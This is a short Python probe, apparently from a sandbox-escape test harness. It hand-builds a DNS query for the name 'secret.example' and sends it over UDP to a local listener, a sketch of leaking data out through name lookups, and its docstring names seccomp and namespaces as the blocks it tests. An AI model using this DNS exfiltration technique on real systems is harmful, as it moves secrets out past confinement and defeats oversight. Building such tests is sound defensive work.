"""Sends a question about a name, as the C library would, and with it what it has learnt.

stopped-by: seccomp, namespaces
evidence: called
leaks: somebody called a listener outside
"""

import socket

from evalmode_runner.attacks.tools import facts

question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x07example\x00\x00\x01\x00\x01"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", facts.udp))
